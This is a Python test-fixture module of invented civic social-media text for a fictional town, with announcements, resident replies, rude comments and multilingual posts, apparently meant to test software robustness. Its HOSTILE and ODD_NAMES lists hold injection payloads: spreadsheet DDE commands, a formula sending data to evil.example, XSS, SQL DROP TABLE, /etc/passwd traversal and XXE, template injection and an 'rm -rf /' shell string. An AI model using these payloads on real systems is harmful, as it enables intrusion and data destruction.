"""What is said in the city: announcements, answers kind, rude and hostile, and texts that break careless software.

Everything here is invented. Placeholders in braces are filled by ``city``.
"""

# ruff: noqa: RUF001 - strange letters are the point

from __future__ import annotations

ANNOUNCEMENTS: dict[str, tuple[str, ...]] = {
    "hall": (
        "The City Council meets {day} at 6 pm in the council chambers. Agenda: https://{domain}/agenda/{n}",
        "Budget workshop {day}: the proposed {year} levy, line by line. Bring questions. #MapleFordBudget",
        "City Hall is closed on {day} for the holiday. Recycling moves by one day.",
        "Reminder: snow emergency rules apply from 10 pm. Even side tonight, odd side tomorrow. #SnowEmergency",
        "Ordinance {n} passed 4-3 last night. The full text is at https://{domain}/ordinances/{n}",
        "Comment on the Cedar Street rezoning until {day}. Every comment becomes part of the public record.",
        "Utility bills go out {day}. Autopay: https://{domain}/pay?src=social&utm_campaign=bill-{n}",
        "Road work on {street} starts {day}. Detour along the river. Map: https://{domain}/maps/{n}",
        "We are hiring: {n} open positions, from lifeguard to GIS analyst.",
        "Absentee voting begins {day} at City Hall, 8 am to 4:30 pm. Bring a photo ID or a utility bill.",
    ),
    "police": (
        "Crash at {street} and Highway {n}. Expect delays until noon. No injuries reported.",
        "Missing: an 82-year-old man, gray jacket, last seen near {street}. Call 911 if you see him.",
        "UPDATE: found safe. Thank you all for sharing.",
        "Catalytic converter thefts are up. Park in the light, call it in. Case {year}-{n}.",
        "Scam alert: officers never ask for gift cards. Hang up.",
        "Coffee with a cop, {day} 9 am at the library. No agenda, no speeches.",
        "Use-of-force report for {year} is out: https://{domain}/police/force-{year}",
        "Night to Unite is {day}. Register your block party by Friday.",
        "Burn ban in effect for the whole county until further notice.",
    ),
    "mayor": (
        "Proud of the crews who cleared {n} miles of street overnight.",
        "My veto message on ordinance {n} is here: https://{domain}/mayor/veto-{n}",
        "Office hours {day}, 4 to 6 pm. Come with complaints, leave with a coffee.",
        "Congratulations to the Maple Ford robotics team, state champions {year}!",
        "I hear you on the {street} crosswalk. Staff will bring options on {day}.",
        "Joint statement with the school board on the levy: https://{domain}/mayor/levy-{year}",
    ),
    "parks": (
        "The {street} pool opens {day}! Lessons fill up fast. 🏊",
        "Ice is NOT safe on Mill Pond. Stay off. ⚠️",
        "Volunteers planted {n} oaks this spring. Thank you! 🌳 #MapleFordParks",
        "Trail closed at {street} after the storm. Crews hope to reopen {day}.",
        "Movie in the park {day}: bring a blanket, leave the dog at home.",
        "Playground vote: which design do you like best?",
        "Deer count this winter: {n}. The plan goes to the board {day}.",
    ),
    "library": (
        "Story time in Hmoob, Soomaali, Español and English, {day} 10 am.",
        "New this week: {n} titles, and the seed library is open again. 🌱",
        "The book sale made ${n}. All of it goes to summer reading.",
        "Closed {day} for inventory. Books can be returned any time.",
        "Book talk about banned books, {day} 7 pm. Everybody welcome.",
        "Wi-Fi hotspots can be borrowed for three weeks. https://{domain}/library/hotspots",
    ),
}

FOLLOW_UPS: tuple[str, ...] = (
    "(2/2) Details and documents: https://{domain}/documents/{n}",
    "Correction: the time is 6:30 pm, not 6 pm.",
    "Thanks for the questions. Staff answers below.",
    "Update: crews are done earlier than planned.",
)

OFFICIAL_ANSWERS: tuple[str, ...] = (
    "Thank you, we passed it on to Public Works (ticket {n}).",
    "Yes, until 8 pm.",
    "The staff report is on page {n} of the packet.",
    "Please call 555-0{n} for that.",
    "We can't discuss an open case here.",
    "Good catch. We corrected the map.",
)

ANSWERS: tuple[str, ...] = (
    "Thank you!",
    "When will {street} be done? It has been two years.",
    "Is there parking for people with disabilities?",
    "Why was this not announced earlier?",
    "I was at that meeting and this is not what was said.",
    "Great work, crews. 👏",
    "Who voted no?",
    "Does this affect bus line {n}?",
    "My street was not plowed. Again. {street}.",
    "Same question as last year: what does it cost?",
    "First.",
    "lol",
    "👍",
    "🙏🙏🙏",
    "This is what we pay taxes for.",
    "I filed a data request about this on {day}. No answer so far.",
    "Please turn the comments back on under the other post.",
    "Can you post this in Spanish, too?",
    "My mother is 84 and cannot use the app. What is she supposed to do?",
    "It's the law: the records of this are public.",
    "Does 'until further notice' mean days or weeks?",
    "Source? https://example.org/budget-{n}",
    "The link is dead: https://{domain}/old/{n}",
    "@city please look at the corner of {street}, somebody will get hurt.",
)

RUDE: tuple[str, ...] = (
    "What a joke. Resign already.",
    "You people could not organize a bake sale.",
    "Clowns. All of you. 🤡🤡🤡",
    "Liars!!! I KNOW what happened at {street} and so do you",
    "delete this like you delete everything else",
    "The mayor is bought and everybody knows by whom.",
    "Worst. Police. Department. Ever.",
    "Hope whoever designed that roundabout has to drive through it every damn day",
    "I pay your salary, answer me.",
    "Censorship! You hid my comment yesterday. See you in court.",
)

FOREIGN: tuple[tuple[str, str], ...] = (
    ("es", "¿Cuándo abren la piscina de {street}? Gracias, señores."),
    ("es", "Mañana no hay reunión, ¿verdad?"),
    ("so", "Fadlan noo sheeg goorta shaqadu dhammaanayso. Mahadsanid."),
    ("hmn", "Ua tsaug ntau. Thaum twg lub tsev qiv ntawv qhib?"),
    ("ar", "متى تنتهي أعمال الطريق؟ شكرا لكم"),
    ("he", "מתי נפתח הפארק? תודה רבה!"),
    ("zh", "请问图书馆周末开放吗?谢谢。"),
    ("ja", "日本語でも案内してください。よろしくお願いします。"),
    ("ko", "주차장은 언제 열리나요?"),
    ("vi", "Cảm ơn thành phố đã sửa đường {street}."),
    ("ru", "Когда закончится ремонт моста?"),
    ("de", "Schöne Grüße aus der Partnerstadt – tolle Bilder!"),
)

HOSTILE: tuple[tuple[str, str], ...] = (
    ("a spreadsheet command", "=cmd|' /C calc'!A0"),
    ("a spreadsheet formula", '=HYPERLINK("https://evil.example/?x="&A1,"click")'),
    ("a cell that starts with plus", "+1 from me, and +1-555-0100"),
    ("a cell that starts with minus", "-2+3+cmd|' /C calc'!A0"),
    ("a cell that starts with at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("a cell that starts with a tab", "\t=1+1"),
    ("a script tag", "<script>alert('xss')</script>"),
    ("an image with a handler", '"><img src=x onerror=alert(1)>'),
    ("entities that must stay as written", "AT&amp;T is &lt;b&gt;not&lt;/b&gt; a tag &#x41; &nbsp;"),
    ("SQL quotes", "Robert'); DROP TABLE comments;--"),
    ("double quotes, commas and line breaks", 'He said "no",\nshe said ""yes"",\r\nend;'),
    ("a right-to-left override", "invoice\u202egnp.exe is safe \u202dreally"),
    ("isolates and marks", "\u2067שלום\u2069 mixed \u200fwith\u200e left \u061c end"),
    ("zero-width characters", "zero\u200bwidth\u200cjoin\u200der\ufeff and soft\u00adhyphen"),
    ("zalgo", "H\u0321\u0353\u0300\u0301\u0302e\u0334\u0356\u0357\u035c c\u0358o\u0362m\u0489e\u0360s\u0336"),
    ("a family, flags and skin tones", "👩‍👩‍👧‍👦 🏳️‍🌈 🇺🇸 👍🏽 🧑🏿‍🚒"),
    ("combining and composed forms of one word", "café vs cafe\u0301"),
    ("nothing", ""),
    ("only spaces", "   "),
    ("leading and trailing space", "  kept as it is  \n\n"),
    ("control characters", "bell\u0007 escape\u001b[31mred\u001b[0m vertical\u000btab"),
    ("a NUL", "before\u0000after"),
    ("a lone surrogate", "half \ud83d a pair"),
    ("noncharacters and the replacement character", "\ufffd and \ufffe and \uffff"),
    ("line separators", "one\u2028two\u2029three\u0085four"),
    ("a path", "../../../../etc/passwd"),
    ("a template", "{{7*7}} ${7*7} <%= 7*7 %>"),
    ("a shell", "$(rm -rf /) `id` ; echo pwned"),
    ("an XML entity", '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;'),
    ("markdown", "**bold** [link](javascript:alert(1)) # heading"),
    ("JSON that looks like ours", '{"error":"RecordNotFound","message":"not really"}'),
    ("a percent sign at the end", "100%"),
    ("letters outside the basic plane", "𝕿𝖍𝖎𝖘 𝖎𝖘 𝖋𝖎𝖓𝖊 𠜎𠜱𠝹 🜁"),
    ("a very long word", "a" * 280),
)

LONG = (
    "I have lived on {street} for {n} years and I want this in the record. "
    "The notice came late, the map was wrong, and the hearing was held at 2 pm when people work. "
)

STREETS: tuple[str, ...] = (
    "Cedar Street", "Mill Road", "Third Avenue", "Lakeview Drive", "Depot Lane", "Nordby Street",
    "Old Ferry Road", "Quarry Hill", "Elm Court", "St. Olaf Avenue",
)  # fmt: skip

DAYS: tuple[str, ...] = ("Monday", "Tuesday", "Wednesday", "Thursday", "Friday", "Saturday", "Sunday")

FIRST_NAMES: tuple[str, ...] = (
    "Ann", "Bo", "Carlos", "Dina", "Elif", "Fartun", "Gus", "Hodan", "Ines", "Jamal", "Karin", "Liv", "Mai", "Nils",
    "Olga", "Pa Nhia", "Quinn", "Rosa", "Sven", "Tou", "Ursula", "Vang", "Wanda", "Ximena", "Yusuf", "Zoë",
)  # fmt: skip

LAST_NAMES: tuple[str, ...] = (
    "Abdi", "Bergström", "Castillo", "Dvořák", "Engen", "Farah", "Gunderson", "Her", "Ibrahim", "Johnson",
    "Kowalski", "Lor", "Moua", "Nguyen", "O'Brien", "Peterson", "Quist", "Ramírez", "Sørensen", "Thao", "Ulrich",
    "Vue", "Warsame", "Xiong", "Yang", "Zimmermann",
)  # fmt: skip

ODD_NAMES: tuple[str, ...] = (
    "=1+1", "☃️ Snow Queen 👑", "אבי", "Ω\u202eevil", "Bobby '); DROP TABLE people;--", "<b>Bold</b>", "", "日本 太郎",
)  # fmt: skip

ALT_TEXTS: tuple[str, ...] = (
    "Map of the detour",
    "Crews plowing at night",
    "The council at its table, seven people",
    "",
    "Piscina municipal, seis carriles",
    'Chart: "levy", in $ <millions> & rising',
    "Plan of the playground 🛝, version 3",
)
